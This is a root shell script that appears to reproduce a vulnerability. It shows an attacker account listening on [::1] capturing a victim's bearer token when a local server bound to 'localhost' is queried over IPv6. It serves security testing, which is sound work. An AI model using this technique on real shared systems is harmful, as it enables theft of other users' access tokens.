#!/bin/sh
# Run as root: in a mount namespace of its own whose /etc/hosts maps localhost to ::1 and
# 127.0.0.1 (as Debian's and Ubuntu's do; this machine's maps it to 127.0.0.1 only), the
# victim h13alice serves `serve --http localhost:PORT` and queries it with the documented
# curl line and the printed URL; the attacker h13mallory listens on [::1]:PORT meanwhile.
# Usage: http_localhost_ipv6.sh DB_URL PORT SIMHASH_STORE_COMMAND
set -e
DB=$1 PORT=$2 CMD=$3 HERE=$(dirname "$(readlink -f "$0")")
printf '127.0.0.1 localhost\n::1 localhost ip6-localhost ip6-loopback\n' > /tmp/h13-hosts
chmod 644 /tmp/h13-hosts
cp "$HERE/http_localhost_ipv6_mallory.py" /tmp/h13-mallory-v6.py && chmod 644 /tmp/h13-mallory-v6.py
exec unshare -m sh -c "
mount --bind /tmp/h13-hosts /etc/hosts
su h13mallory -c 'python3 /tmp/h13-mallory-v6.py $PORT' > /tmp/h13-mallory-v6.out 2>&1 &
su h13alice -c 'cd ~ && { $CMD --db $DB serve --http localhost:$PORT > serve.json 2> serve.err & echo \$! > serve.pid; }'
sleep 8
su h13alice -c '
cd ~ && cat serve.json && URL=\$(python3 -c \"import json; print(json.load(open(\\\"serve.json\\\"))[\\\"url\\\"])\")
TOKEN=\$(cat \$(python3 -c \"import json; print(json.load(open(\\\"serve.json\\\"))[\\\"read_write_token_file\\\"])\"))
echo \"alice token: \$TOKEN\"
printf \"Authorization: Bearer %s\n\" \"\$TOKEN\" | curl -s -H @- \$URL/health; echo \" (curl)\"
TOKEN=\$TOKEN URL=\$URL python3 -c \"import os, urllib.request as r; print(r.urlopen(r.Request(os.environ[\\\"URL\\\"] + \\\"/health\\\", headers={\\\"Authorization\\\": \\\"Bearer \\\" + os.environ[\\\"TOKEN\\\"]})).read(), \\\"(Python urllib)\\\")\"'
sleep 1; cat /tmp/h13-mallory-v6.out
kill \$(cat /home/h13alice/serve.pid) || true
"
